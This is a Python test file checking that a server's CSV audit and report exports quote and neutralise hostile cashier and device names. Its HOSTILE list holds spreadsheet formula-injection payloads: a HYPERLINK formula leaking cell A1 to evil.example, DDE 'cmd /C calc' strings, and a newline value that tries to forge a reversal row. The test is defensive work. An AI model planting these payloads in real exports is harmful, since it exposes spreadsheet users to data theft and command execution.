"""Hostile names in the CSVs the server writes: a newline cannot forge a row, a formula cannot run."""

from __future__ import annotations

import csv
import io

import requests

from tests.support.cli import run_cli
from tests.support.server import init_demo_server
from tests.support.times import iso_ago

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
           "olga\n2026-01-01,2026-01-01,fake,cancel,applied,,till,boss,reversal -999",
           'quote " and, comma']


def cli(server, *args) -> str:
    out = run_cli("--config", str(server.config_path), *args, check=True)
    return out.stdout


def assert_harmless(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_audit_and_reports_quote_and_neutralise_hostile_names(tmp_path):
    server = init_demo_server(tmp_path).start()
    try:
        device = server.enrol("cashier", name='=HYPERLINK("http://evil.example","till")')
        ops = [{"id": f"csv-op-{i:04d}", "type": "sale", "at": iso_ago(days=6), "cashier": name,
                "payload": {"card_number": "10003", "amount": 1000}} for i, name in enumerate(HOSTILE)]
        r = requests.post(f"{server.url}/api/v1/operations:batch", json={"operations": ops}, timeout=10,
                          headers={"Authorization": f"Bearer {device['device_key']}"})
        assert r.status_code == 200, r.text
    finally:
        server.stop()
    audit = list(csv.reader(io.StringIO(cli(server, "audit", "10003"))))
    assert audit[0] == ["at", "received_at", "id", "type", "status", "error", "device", "cashier", "ledger"]
    assert len(audit) == 1 + len(HOSTILE)  # the newline stayed inside its cell: no forged reversal row
    assert [row[2] for row in audit[1:]] == [op["id"] for op in ops]
    assert {row[6] for row in audit[1:]} == {"'" + '=HYPERLINK("http://evil.example","till")'}
    assert sorted(row[7] for row in audit[1:]) == sorted(
        ("'" + n if n[0] in "=+-@\t" else n) for n in HOSTILE)
    assert_harmless(audit)
    for by in ("cashier", "device"):
        report = list(csv.reader(io.StringIO(cli(server, "report", "--by", by))))
        assert_harmless(report)
        assert sum(int(row[3]) for row in report[1:]) == len(HOSTILE)
    out = tmp_path / "by-cashier.csv"
    cli(server, "report", "--by", "cashier", "--out", str(out))
    assert_harmless(list(csv.reader(io.StringIO(out.read_text(encoding="utf-8")))))
